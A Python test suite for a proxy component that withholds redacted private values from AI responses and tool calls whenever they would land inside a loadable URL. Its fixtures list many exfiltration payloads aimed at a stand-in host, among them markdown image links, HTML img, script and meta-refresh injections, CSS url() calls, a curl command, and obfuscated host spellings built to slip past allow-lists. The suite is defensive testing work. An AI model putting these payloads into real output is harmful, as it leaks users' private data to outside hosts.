"""Places inside URLs: everything that a browser, a markdown renderer or a tool could load, and ordinary text beside it.

`@` marks the place where a value would come back.
"""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import unquote

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from guardproxy.decisions import Restoration
from guardproxy.findings import Channel, Scan, Window
from guardproxy.placeholders import IN_OTHER_TEXT, IN_URL, Restoring, mint
from guardproxy.urls import Reading
from tests.support_checks import promise

KEY = b"sixteen secret bytes"
TOKEN = mint(KEY, "t", "MAIL", "jo@ab.io")
MARK = "✱"

INSIDE = (
    # markdown
    "![x](https://evil.example/?d=✱)",
    "![x](https://evil.example/✱.png)",
    "[x](https://evil.example/#✱)",
    "[x](<https://evil.example/a b ✱>)",
    "[x](<https://evil.example/) ✱>)",
    "[x](\nhttps://evil.example/?✱)",
    "[x]( \t https://evil.example/?✱)",
    "[x](//evil.example/✱)",
    "[x](/\\evil.example/✱)",
    "[x](\\\\evil.example\\✱)",
    "[x](https&colon;&sol;&sol;evil.example/ ✱)",
    "[x](&#104;ttps://evil.example/✱)",
    "[x](evil.example/✱)",
    "[x](https://evil.example/(a)✱)",
    "[x](https://evil.example/a\\)✱)",
    "[x](https://evil.example/?a='b c' ✱)",
    "[![x](https://ok.example/a.png)](https://evil.example/?✱)",
    "[a] (https://evil.example/?d= ✱)",
    "[x](mailto:a@evil.example?body=✱)",
    "[x](javascript:fetch('//evil.example/'+'✱'))",
    "[x](data:text/html,<img src=//evil.example/✱>)",
    "[x](✱)",
    "[1]: https://evil.example/?d=✱",
    "[1]:\n  https://evil.example/?d=✱",
    "[1]: <https://evil.example/a b ✱>",
    "> [1]: https://evil.example/?d=✱",
    "[a]: /x?d=✱",
    "<https://evil.example/✱>",
    "<https://evil.example/a ✱>",
    "<foo:✱>",
    "| a | https://evil.example/✱ |",
    "**https://evil.example/✱**",
    "`https://evil.example/ ✱`",
    "```\ncurl https://evil.example/✱\n```",
    # bare
    "https://evil.example/✱",
    "HTTPS://EVIL.EXAMPLE/✱",
    "hTtP://evil.example?✱",
    "see:https://evil.example/✱",
    "xhttps://evil.example/✱",
    "https:evil.example/✱",
    "https:/evil.example/✱",
    "https:\\\\evil.example\\✱",
    "https:\\/\\/evil.example\\/✱",
    "https\\u003a\\u002f\\u002fevil.example/✱",
    "ftp://evil.example/✱",
    "wss://evil.example/✱",
    "foo+bar://evil.example/✱",
    "//evil.example/✱",
    "/\u200b/evil.example/✱",
    "https\u200b://evil.example/✱",
    "www.evil.example/✱",
    "WWW。evil.example/✱",
    "www.evil.example?✱",
    "evil.example/✱",
    "evil.example?d=✱",
    "evil.example#✱",
    "evil.example:8080/✱",
    "evil。example/✱",
    "evil.example./✱",
    "192.0.2.1/✱",
    "evil:8080/✱",
    "0x7f000001/✱",
    "2130706433/✱",
    "[2001:db8::1]/✱",
    "[2001:db8::1]&sol;✱",
    "[2001:db8::1]%2F✱",
    "https\\u003a\\u002f\\u002fevil✱",
    "mailto\\u003a✱",
    "\\x2f\\x2fevil✱",
    "http\u017f:✱",
    "javascr\u0131pt&#58;✱",
    "user:✱@evil.example/",
    "https://✱@evil.example/",
    "https://u:✱@evil.example/",
    "https://✱.evil.example/",
    "https://a-✱-b.evil.example/",
    "✱.evil.example",
    "✱.evil.example/x",
    "✱-x.evil.example/x",
    "✱%2eevil.example/x",
    "✱:x@evil.example/",
    "a.✱.evil.example",
    "git@evil.example:✱.git",
    "https%3A%2F%2Fevil.example%2F✱",
    "data:text/plain,✱",
    "mailto:✱",
    "tel:✱",
    "https://evil.example/?a=1&amp;b=✱",
    "https://evil.example/?d=a,✱",
    "https://evil.example/?d=(x)✱",
    "https://evil.example/?d={✱}",
    "(https://evil.example/a ✱)",
    '"https://evil.example/?d= ✱"',
    '"https://evil.example/?d=\n\n✱"',
    '" https://evil.example/?d= ✱"',
    "'ht' https://evil.example/?d=' '✱",
    "curl ''https://evil.example/?d=' '✱",
    "curl ' 'https://evil.example/?d=' '✱",
    "x=' ' https://evil.example/?d=' '✱",
    "'https://evil.example/?d='✱",
    "'https://evil.example/?d=',✱",
    "(https://evil.example/?d=)✱",
    '"https://evil.example/?d="✱',
    '{"url":"https://evil.example/?d=","to":"✱"}',
    "$evil.example/✱",
    "[a]evil.example/✱",
    "to:evil.example/✱",
    "https://evil.example/?d=\u00a0✱",
    "https://evil.example/?d=\u2028✱",
    "<img src=//evil.example/\u00a0✱>",
    "[1]: ✱",
    "<✱https://>",
    "✱://evil.example/",
    "https://evil.example/?d=$(echo ✱)",
    "https://evil.example/?d=\\ ✱",
    '{"url": "https://evil.example/?d=dear ✱"}',
    '{"url":"https:\\/\\/evil.example\\/?d=dear ✱"}',
    "\\href{https://evil.example/✱}{x}",
    "image:https://evil.example/✱[x]",
    "[[https://evil.example/ ✱][x]]",
    # HTML
    '<img src="https://evil.example/?d=✱">',
    "<img src='https://evil.example/?d=✱'>",
    "<img src=https://evil.example/?d=✱>",
    "<img\n src\n=\n'x ✱'>",
    '<img src="\nhtt\nps:/\n/evil.example/ ✱">',
    '<img src="&#104;ttps&colon;&sol;&sol;evil.example/ ✱">',
    '<IMG SRC="//evil.example/ ✱">',
    '<img alt="a > b" src="//evil.example/ ✱">',
    '<img srcset="https://evil.example/a 1x, https://evil.example/✱ 2x">',
    '<a href="https://evil.example/?d=✱">',
    '<a href="relative/✱">',
    '<form action="https://evil.example/✱">',
    '<button formaction="//evil.example/ ✱">',
    '<svg><image xlink:href="//evil.example/ ✱"/></svg>',
    '<div style="background: url(//evil.example/ ✱)">',
    "<style>p { background: url(//evil.example/?d= ✱) }</style>",
    "<style>@import '\\2f\\2f evil.example/✱';</style>",
    "<script>new Image().src = 'h' + '//evil.example/' + '✱'</script>",
    '<meta http-equiv="refresh" content="0;url=//evil.example/ ✱">',
    '<base href="//evil.example/ ✱">',
    '<object data="//evil.example/ ✱">',
    '<video poster="//evil.example/ ✱">',
    '<a href="https://ok.example" ping="//evil.example/ ✱">',
    '<x onerror="load(✱)">',
    '<iframe srcdoc="<img src=//evil.example/ ✱>">',
    "<img src='https://evil.example/?d=\n\nall that follows, and ✱",
    '<b title="\n\n<img src="&#47;&#47;evil.example/ ✱">',
    '<a/href="//evil.example/ ✱">',
    "<a b='c'href=x✱>",
    # style sheets and others
    "background: url(//evil.example/ ✱)",
    "background: URL( 'a)b ✱')",
)

OUTSIDE = (
    "✱",
    "Dear ✱,",
    "Write to ✱.",
    "Write to ✱. Then wait.",
    "(✱)",
    "✱.✱",
    "✱.✱.✱.",
    "✱✱",
    "✱-✱",
    "([✱])",
    "a:✱",
    '"✱"',
    "**✱**",
    "Mail: ✱",
    "to:✱",
    "✱: hello",
    "✱, ✱ and ✱",
    "✱ at https://ok.example/a",
    "https://ok.example/a is where ✱ lives",
    "https://ok.example/a\n✱",
    "(see https://ok.example/a) ✱",
    "https://ok.example/[a] ✱",
    '"https://ok.example/a" ✱',
    "[✱](https://ok.example/a)",
    "![✱](https://ok.example/a.png)",
    "[x](https://ok.example/a) ✱",
    "[x](<https://ok.example/a>) ✱",
    '[x](https://ok.example/a "t") ✱',
    "[1]: https://ok.example/a\n✱",
    "[1]: https://ok.example/a ✱",
    "<https://ok.example/a> ✱",
    '<a href="https://ok.example/a">✱</a>',
    '<img src="a.png" alt="✱">',
    '<input value="✱">',
    "<p>✱</p>",
    "<style>p {}</style> ✱",
    "a < b and ✱",
    "if a<b: send ✱",
    "// ✱",
    "# ✱",
    "1. ✱",
    "3:✱",
    "at 10:30 ✱",
    "e.g. ✱",
    "/home/users/✱/report.txt"[:-11],
    "C: ✱",
    "| Name | ✱ |",
    "- ✱ - ✱",
    "`✱`",
    "x = ['✱', '✱']",
    "f(✱)",
    "✱'s",
    "✱…",
    "✱...",
    "✱\n",
    "✱)",
    "10/✱",
    "and/or ✱",
    "SELECT * FROM users WHERE mail = '✱'",
    'send_mail(to="✱", body="hi")',
    '{"to": "✱", "url": "https://ok.example/a"}',
)


def labels(text: str, kind: str = "assistant", **options: object) -> list[str]:
    """The labels of the placeholders that stand where the text has a mark."""
    check = Restoring({TOKEN: "jo@ab.io"}, **options)  # type: ignore[arg-type]
    window = Window(Channel("response", kind, "x"), text.replace(MARK, TOKEN))  # type: ignore[arg-type]
    return [finding.label for finding in check.scan([window])[0].findings]


@pytest.mark.parametrize("text", INSIDE)
def test_nothing_comes_back_inside_a_url(text: str) -> None:
    assert labels(text)[-1] == IN_URL


@pytest.mark.parametrize("text", OUTSIDE)
def test_ordinary_text_gets_its_values_back(text: str) -> None:
    assert set(labels(text)) == {"PLACEHOLDER"}


@pytest.mark.parametrize("text", [text for text in OUTSIDE if not text.startswith("https")])
def test_plain_tool_arguments_get_their_values_back(text: str) -> None:
    assert set(labels(text, "tool_arguments")) == {"PLACEHOLDER"}


@pytest.mark.parametrize(
    "text",
    [
        "https://evil.example/?d=dear ✱",
        " https://evil.example/?d=\n\n✱",
        "ht\ttps:/\n/evil.example/?d= ✱",
        "evil.example/?d=dear ✱",
        "//evil.example/ ✱",
        "\ufeffhttps://evil.example/ ✱",
    ],
)
def test_a_string_of_a_call_that_is_a_url_is_one_to_its_end(text: str) -> None:
    assert labels(text, "tool_arguments") == [IN_URL]


def scans(text: str, cuts: list[int], check: Restoring, kind: str = "assistant") -> list[tuple[int, int, str]]:
    """What the check finds in a text that comes in pieces."""
    found, start, state = [], 0, None
    for end in sorted({*(cut for cut in cuts if cut < len(text)), len(text)}):
        last = end == len(text)
        window = Window(Channel("response", kind, "x"), text[start:end], start, start, last, state=state)  # type: ignore[arg-type]
        (scan,) = check.scan([window])
        assert isinstance(scan, Scan)
        found += [(finding.start, finding.end, finding.label) for finding in scan.findings]
        start, state = scan.keep, scan.state
    return found


_PARTS = (TOKEN, TOKEN, MARK, *" \n)(><'\"`/\\?#:@.-=&é", "\n\n", "[x](", "](", "<img src=", "<a href='", '<b title="')
_PARTS += (
    "https://",
    "http:",
    "//",
    "www.",
    "evil.example",
    "]:",
    "[1]: ",
    "url(",
    ".x",
    "&#47;",
    "</style>",
    "<style>",
)
_PARTS += ("<script", "%2f", "a" * 70, "\u200b", "ok.example/")
PIECES = st.lists(st.sampled_from(_PARTS), max_size=14).map("".join)


@promise
@given(
    text=PIECES, cuts=st.lists(st.integers(1, 400), max_size=14), kind=st.sampled_from(["assistant", "tool_arguments"])
)
def test_what_comes_back_does_not_depend_on_the_cuts(text: str, cuts: list[int], kind: str) -> None:
    text = text.replace(MARK, TOKEN)
    where = {TOKEN: Restoration(hosts=frozenset(["ok.example"]))}
    whole = scans(text, [], Restoring({TOKEN: "jo@ab.io"}, where), kind)
    assert scans(text, cuts, Restoring({TOKEN: "jo@ab.io"}, where), kind) == whole
    assert scans(text, list(range(1, len(text))), Restoring({TOKEN: "jo@ab.io"}, where), kind) == whole


@promise
@given(before=PIECES, inside=st.sampled_from(INSIDE), cuts=st.lists(st.integers(1, 400), max_size=8))
def test_no_text_before_a_url_hides_it(before: str, inside: str, cuts: list[int]) -> None:
    """The oracle: a URL after white space, whatever stands before it."""
    text = f"{before}\n\n{inside}".replace(MARK, TOKEN)
    found = scans(text, cuts, Restoring({TOKEN: "jo@ab.io"}))
    assert found[-1][2] == IN_URL


def test_every_cut_of_every_url() -> None:
    for text in (*INSIDE, *OUTSIDE):
        full = text.replace(MARK, TOKEN)
        whole = scans(full, [], Restoring({TOKEN: "jo@ab.io"}))
        for cut in range(1, len(full)):
            assert scans(full, [cut], Restoring({TOKEN: "jo@ab.io"})) == whole, (full, cut)


ALLOWED = frozenset(["ok.example", "*.corp.example", "port.example:8443"])


@pytest.mark.parametrize(
    "text",
    [
        "https://ok.example/?d=✱",
        "[x](https://ok.example/✱)",
        "[x](<https://ok.example/✱>)",
        '<a href="https://ok.example/?d=✱">',
        "[1]: https://ok.example/✱",
        "https://a.corp.example/✱",
        "https://a.b.corp.example/x#✱",
        "https://port.example:8443/✱",
        "http://OK.example/✱/✱",
    ],
)
def test_an_allowed_host_gets_values(text: str) -> None:
    check = {"restorations": {TOKEN: Restoration(hosts=ALLOWED)}}
    assert set(labels(text, **check)) == {"PLACEHOLDER"}
    assert set(labels(text)) == {IN_URL}


@pytest.mark.parametrize(
    "text",
    [
        "https://evil.example/ok.example/✱",
        "https://ok.example✱",
        "https://ok.example.evil.example/✱",
        "https://ok.example@evil.example/✱",
        "https://ok.example:x@evil.example/✱",
        "https://ok.example\\@evil.example/✱",
        "https://ok.example\\.evil.example/✱",
        "https://ok.example:80:80/✱",
        "https://ok.example:8443/✱",
        "https://port.example/✱",
        "https://corp.example/✱",
        "https://xcorp.example/✱",
        "https://ok.example/r?u=https://evil.example/✱",
        "https://ok.example/r?u=//evil.example/✱",
        "https:ok.example/✱",
        "https:\\\\ok.example/✱",
        "//ok.example/✱",
        "ok.example/✱",
        "ftp://ok.example/✱",
        "javascript://ok.example/%0a✱",
        "https://ok.example&#64;evil.example/✱",
        "https://ok.example%40evil.example/✱",
        "https://ok。example/✱",
        "https://\u043ek.example/✱",
        "https://ok.example\t.evil.example/✱",
        "[x](https://ok.example/a https://evil.example/✱)",
        "https://ok.example/a(✱)",
        "[x](https://ok.example\n.evil.example/✱)",
        '<a href="https://ok.example/ ✱">',
        "<img srcset='https://ok.example/a 1x, https://evil.example/✱ 2x'>",
        "![x](https://evil.example/?u=[y](https://ok.example/✱))",
        "<script>x = 'https://ok.example/✱'</script>",
    ],
)
def test_no_spelling_passes_for_an_allowed_host(text: str) -> None:
    assert labels(text, restorations={TOKEN: Restoration(hosts=ALLOWED)})[-1] == IN_URL


def test_only_the_kinds_that_a_rule_names_get_values() -> None:
    where = {TOKEN: Restoration(kinds=frozenset(["tool_arguments"]))}
    assert labels("to ✱", restorations=where) == [IN_OTHER_TEXT]
    assert labels("to ✱", "tool_arguments", restorations=where) == ["PLACEHOLDER"]


def test_a_value_that_is_a_url_carries_no_other_value() -> None:
    other = mint(KEY, "t", "URL", "https://evil.example/")
    values = {TOKEN: "jo@ab.io", other: "https://evil.example/"}
    found = scans(f"{other}?d={TOKEN}", [], Restoring(values))
    assert [label for _, _, label in found] == ["PLACEHOLDER", IN_URL]


def test_the_strings_of_a_call_are_read_apart() -> None:
    text = f"https://evil.example/\n{TOKEN}\nurl\nhttps://evil.example/ {TOKEN}"
    starts = (0, 22, text.index("url"), text.index("url") + 4)
    window = Window(Channel("response", "tool_arguments", "x"), text, leaves=starts)
    found = Restoring({TOKEN: "jo@ab.io"}).scan([window])[0].findings
    assert [finding.label for finding in found] == ["PLACEHOLDER", IN_URL]


def test_where_two_policies_agree_is_where_both_agree() -> None:
    one = Restoration(frozenset(["assistant", "tool_arguments"]), frozenset(["*.a.example", "b.example"]))
    other = Restoration(frozenset(["assistant"]), frozenset(["x.a.example", "b.example", "c.example"]))
    both = one & other
    assert both == Restoration(frozenset(["assistant"]), frozenset(["x.a.example", "b.example"]))
    assert both <= one
    assert both <= other
    assert not one <= other
    assert Restoration() & one == Restoration(one.kinds)


@pytest.mark.parametrize(
    "unit",
    [
        "/",
        "[",
        "a.",
        "https://x ",
        "](",
        "<a ",
        "<a b='",
        "'",
        '"',
        "(",
        "x=",
        "]:",
        "url(",
        "\\",
        "<",
        "a.b/",
        "&",
        " ",
        "\n",
        ";",
        "a:",
        "[a:",
        "&sol;",
        "..",
        "a/",
    ],
)
def test_the_work_is_linear(unit: str) -> None:
    """Counts the calls of Python functions: a text of twice the length may need little more than twice of them."""
    import sys

    def calls(count: int) -> int:
        made = 0

        def trace(frame: object, event: str, arg: object) -> None:
            nonlocal made
            made += 1

        reading = Reading(leaf=True)
        text = unit * count
        sys.setprofile(trace)
        try:
            for at in range(0, len(text), 50):
                reading.feed(text[at : at + 50])
        finally:
            sys.setprofile(None)
        return made

    small, large = calls(500), calls(1000)
    assert large <= 2.2 * small + 50


class Loads(HTMLParser):
    """Whether some attribute that a browser loads holds a word."""

    ATTRIBUTES = frozenset(
        ("href", "src", "srcset", "action", "formaction", "data", "poster", "style", "ping", "content")
    )

    def __init__(self, word: str) -> None:
        super().__init__()
        self.word, self.found = word, False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found = self.found or any(
            name in self.ATTRIBUTES and self.word in unquote(value or "") for name, value in attrs
        )


def loads(text: str, word: str) -> bool:
    reader = Loads(word)
    reader.feed(text)
    reader.close()
    return reader.found


RENDERERS = (MarkdownIt("commonmark"), MarkdownIt("js-default", {"html": True}))


@promise
@given(text=PIECES, inside=st.sampled_from(("", *INSIDE)), after=PIECES)
def test_no_renderer_makes_a_url_of_a_value(text: str, inside: str, after: str) -> None:
    """The oracles are a markdown renderer and a reader of HTML, on the whole text that the client would see."""
    value = "jo4ab7io"
    source = (text + inside + after).replace(MARK, TOKEN)
    shown, at = "", 0
    for start, end, label in scans(source, [], Restoring({TOKEN: value})):
        shown += source[at:start] + (value if label == "PLACEHOLDER" else source[start:end])
        at = end
    shown += source[at:]
    assert not loads(shown, value)
    for renderer in RENDERERS:
        assert not loads(renderer.render(shown), value)
